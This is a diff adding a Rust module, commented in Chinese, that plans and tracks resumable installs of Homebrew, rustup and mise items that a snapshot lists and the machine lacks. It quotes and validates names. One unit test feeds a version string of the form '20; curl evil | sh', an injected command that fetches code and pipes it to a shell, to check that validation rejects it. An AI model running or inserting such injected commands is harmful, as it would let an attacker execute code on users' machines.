@@ -0,0 +1,317 @@
+// 新机器初始化模块
+// 根据环境状态文件（snapshot 格式）规划并安装缺失的 tap、软件包、工具链、组件和工具
+
+use anyhow::{bail, Context, Result};
+use serde::{Deserialize, Serialize};
+use std::collections::BTreeSet;
+use std::os::unix::ffi::OsStrExt;
+use std::path::{Path, PathBuf};
+
+use crate::parallel::{DependencyGraph, Tool};
+use crate::snapshot::diff::{diff, tool_order, DiffStatus};
+use crate::snapshot::Snapshot;
+use crate::utils::{get_cache_dir, is_valid_name, shell_quote};
+
+/// 单个安装步骤
+#[derive(Debug, Clone, PartialEq)]
+pub struct BootstrapStep {
+    pub tool: Tool,
+    /// 项目类别，与快照对比中的类别一致
+    pub category: &'static str,
+    pub name: String,
+    /// 要执行的命令，同时作为进度记录的标识
+    pub command: String,
+}
+
+/// 同一工具内的执行顺序：先 tap 再 formula/cask，先工具链再组件/目标，最后设置默认工具链
+fn category_rank(category: &str) -> u8 {
+    match category {
+        "tap" => 0,
+        "formula" => 1,
+        "cask" => 2,
+        "toolchain" => 0,
+        "component" => 1,
+        "target" => 2,
+        "default" => 3,
+        _ => 0,
+    }
+}
+
+/// 将快照对比中的项目转换为安装命令
+///
+/// 名称和版本来自状态文件，可能由他人提供：不合法的标识直接报错，拼接时全部加引号
+fn step_command(category: &str, name: &str, version: Option<&str>) -> Result<Option<String>> {
+    for value in std::iter::once(name).chain(version) {
+        if !is_valid_name(value) {
+            bail!("invalid {} {:?} in state file", category, value);
+        }
+    }
+    let q = shell_quote;
+    let command = match (category, version) {
+        ("tap", _) => format!("brew tap {}", q(name)),
+        ("formula", _) => format!("brew install {}", q(name)),
+        ("cask", _) => format!("brew install --cask {}", q(name)),
+        ("toolchain", _) => format!("rustup toolchain install {}", q(name)),
+        ("component", _) => {
+            let Some((toolchain, component)) = name.split_once('/') else {
+                return Ok(None);
+            };
+            format!(
+                "rustup component add {} --toolchain {}",
+                q(component),
+                q(toolchain)
+            )
+        }
+        ("target", _) => {
+            let Some((toolchain, target)) = name.split_once('/') else {
+                return Ok(None);
+            };
+            format!(
+                "rustup target add {} --toolchain {}",
+                q(target),
+                q(toolchain)
+            )
+        }
+        ("default", Some(version)) => format!("rustup default {}", q(version)),
+        ("tool", Some(version)) => format!("mise use -g {}", q(&format!("{}@{}", name, version))),
+        _ => return Ok(None),
+    };
+    Ok(Some(command))
+}
+
+/// 规划安装步骤
+///
+/// 只安装状态文件中有而本机缺失的项目；已安装但版本不同的项目保持不变，
+/// 默认工具链例外，会切换为状态文件中的设置。
+pub fn plan(state: &Snapshot, live: &Snapshot) -> Result<Vec<BootstrapStep>> {
+    let mut steps = Vec::new();
+    for entry in diff(state, live) {
+        let wanted = entry.status == DiffStatus::Missing
+            || (entry.status == DiffStatus::Changed && entry.category == "default");
+        if !wanted {
+            continue;
+        }
+        if let Some(command) = step_command(entry.category, &entry.name, entry.base.as_deref())? {
+            steps.push(BootstrapStep {
+                tool: entry.tool,
+                category: entry.category,
+                name: entry.name,
+                command,
+            });
+        }
+    }
+
+    // 稳定排序：保持对比结果中同类别项目的名称顺序
+    steps.sort_by_key(|step| (tool_order(&step.tool), category_rank(step.category)));
+    Ok(steps)
+}
+
+/// 根据步骤构建工具间依赖：由 Homebrew 安装 rustup 或 mise 时，对应工具需等待 Homebrew 完成
+pub fn dependency_graph(steps: &[BootstrapStep]) -> DependencyGraph {
+    let mut graph = DependencyGraph::new();
+    let has_tool = |tool: &Tool| steps.iter().any(|step| &step.tool == tool);
+    let brew_installs = |formulae: &[&str]| {
+        steps.iter().any(|step| {
+            step.tool == Tool::Homebrew
+                && step.category == "formula"
+                && formulae.contains(&step.name.as_str())
+        })
+    };
+
+    if has_tool(&Tool::Rustup) && brew_installs(&["rustup", "rustup-init"]) {
+        graph.add_dependency(Tool::Rustup, Tool::Homebrew);
+    }
+    if has_tool(&Tool::Mise) && brew_installs(&["mise"]) {
+        graph.add_dependency(Tool::Mise, Tool::Homebrew);
+    }
+    graph
+}
+
+/// 初始化进度，用于中断后继续
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+pub struct BootstrapProgress {
+    /// 已成功执行的命令
+    completed: BTreeSet<String>,
+    #[serde(skip)]
+    path: PathBuf,
+}
+
+impl BootstrapProgress {
+    /// 加载指定状态文件对应的进度记录，保存在 `~/.cache/devtool/bootstrap/`
+    pub fn load(state_file: &Path) -> Self {
+        let path = Self::progress_path(&get_cache_dir().join("bootstrap"), state_file);
+        Self::load_from(path)
+    }
+
+    fn progress_path(dir: &Path, state_file: &Path) -> PathBuf {
+        let canonical = state_file
+            .canonicalize()
+            .unwrap_or_else(|_| state_file.to_path_buf());
+        // 使用 FNV-1a：标准库的 DefaultHasher 在不同 Rust 版本间结果可能不同，
+        // 升级工具链后会找不到原来的进度记录
+        let hash = canonical
+            .as_os_str()
+            .as_bytes()
+            .iter()
+            .fold(0xcbf2_9ce4_8422_2325u64, |hash, byte| {
+                (hash ^ u64::from(*byte)).wrapping_mul(0x0000_0100_0000_01b3)
+            });
+        dir.join(format!("{:016x}.json", hash))
+    }
+
+    fn load_from(path: PathBuf) -> Self {
+        let mut progress: Self = std::fs::read_to_string(&path)
+            .ok()
+            .and_then(|content| serde_json::from_str(&content).ok())
+            .unwrap_or_default();
+        progress.path = path;
+        progress
+    }
+
+    /// 步骤是否已完成
+    pub fn is_completed(&self, step: &BootstrapStep) -> bool {
+        self.completed.contains(&step.command)
+    }
+
+    /// 已完成的步骤数
+    pub fn completed_count(&self) -> usize {
+        self.completed.len()
+    }
+
+    /// 记录步骤完成并立即写盘
+    pub fn mark_completed(&mut self, step: &BootstrapStep) -> Result<()> {
+        self.completed.insert(step.command.clone());
+        if let Some(dir) = self.path.parent() {
+            std::fs::create_dir_all(dir)
+                .with_context(|| format!("create progress dir {:?}", dir))?;
+        }
+        std::fs::write(&self.path, serde_json::to_string_pretty(self)?)
+            .with_context(|| format!("write progress {:?}", self.path))
+    }
+
+    /// 全部完成后删除进度记录
+    pub fn clear(&self) {
+        let _ = std::fs::remove_file(&self.path);
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::commands::rustup::{InstalledToolchain, RustupInventory};
+    use crate::snapshot::{HomebrewSnapshot, MiseSnapshot, PackageVersion};
+    use chrono::Utc;
+    use std::collections::BTreeMap;
+    use tempfile::tempdir;
+
+    fn state() -> Snapshot {
+        Snapshot {
+            devtool_version: "0.8.23".to_string(),
+            created_at: Utc::now(),
+            homebrew: Some(HomebrewSnapshot {
+                taps: vec!["oven-sh/bun".to_string()],
+                formulae: vec![
+                    PackageVersion {
+                        name: "mise".to_string(),
+                        version: "2024.5.0".to_string(),
+                    },
+                    PackageVersion {
+                        name: "git".to_string(),
+                        version: "2.45.0".to_string(),
+                    },
+                ],
+                casks: vec![],
+            }),
+            rustup: Some(RustupInventory {
+                host: None,
+                default_toolchain: Some("stable".to_string()),
+                toolchains: vec![InstalledToolchain {
+                    name: "stable".to_string(),
+                    version: Some("1.80.0".to_string()),
+                    components: vec!["clippy".to_string()],
+                    targets: vec!["wasm32-unknown-unknown".to_string()],
+                }],
+            }),
+            mise: Some(MiseSnapshot {
+                tools: BTreeMap::from([("node".to_string(), "20.11.0".to_string())]),
+            }),
+        }
+    }
+
+    fn empty() -> Snapshot {
+        Snapshot {
+            homebrew: Some(HomebrewSnapshot {
+                formulae: vec![PackageVersion {
+                    name: "git".to_string(),
+                    version: "2.39.0".to_string(),
+                }],
+                ..Default::default()
+            }),
+            rustup: None,
+            mise: None,
+            ..state()
+        }
+    }
+
+    #[test]
+    fn test_plan_orders_steps() {
+        let steps = plan(&state(), &empty()).unwrap();
+        let commands: Vec<&str> = steps.iter().map(|s| s.command.as_str()).collect();
+        assert_eq!(
+            commands,
+            vec![
+                "brew tap 'oven-sh/bun'",
+                "brew install 'mise'",
+                "rustup toolchain install 'stable'",
+                "rustup component add 'clippy' --toolchain 'stable'",
+                "rustup target add 'wasm32-unknown-unknown' --toolchain 'stable'",
+                "rustup default 'stable'",
+                "mise use -g 'node@20.11.0'",
+            ]
+        );
+    }
+
+    #[test]
+    fn test_plan_is_empty_when_up_to_date() {
+        assert!(plan(&state(), &state()).unwrap().is_empty());
+    }
+
+    #[test]
+    fn test_plan_rejects_invalid_names() {
+        let mut state = state();
+        state.mise = Some(MiseSnapshot {
+            tools: BTreeMap::from([("node".to_string(), "20; curl evil | sh".to_string())]),
+        });
+        assert!(plan(&state, &empty()).is_err());
+    }
+
+    #[test]
+    fn test_dependency_graph_for_brew_installed_tools() {
+        let steps = plan(&state(), &empty()).unwrap();
+        let graph = dependency_graph(&steps);
+        assert_eq!(graph.get_dependent_tools(&Tool::Homebrew), vec![Tool::Mise]);
+    }
+
+    #[test]
+    fn test_progress_roundtrip() {
+        let tmp = tempdir().unwrap();
+        let path = BootstrapProgress::progress_path(tmp.path(), Path::new("env.json"));
+        let step = &plan(&state(), &empty()).unwrap()[0];
+
+        let mut progress = BootstrapProgress::load_from(path.clone());
+        assert!(!progress.is_completed(step));
+        progress.mark_completed(step).unwrap();
+
+        let reloaded = BootstrapProgress::load_from(path.clone());
+        assert!(reloaded.is_completed(step));
+        assert_eq!(reloaded.completed_count(), 1);
+
+        reloaded.clear();
+        assert!(!path.exists());
+
+        // 进度文件名在不同 Rust 版本间保持不变
+        let stable =
+            BootstrapProgress::progress_path(Path::new("/cache"), Path::new("/no/such/env.json"));
+        assert_eq!(stable, Path::new("/cache/2fcef3f4b94afdd3.json"));
+    }
+}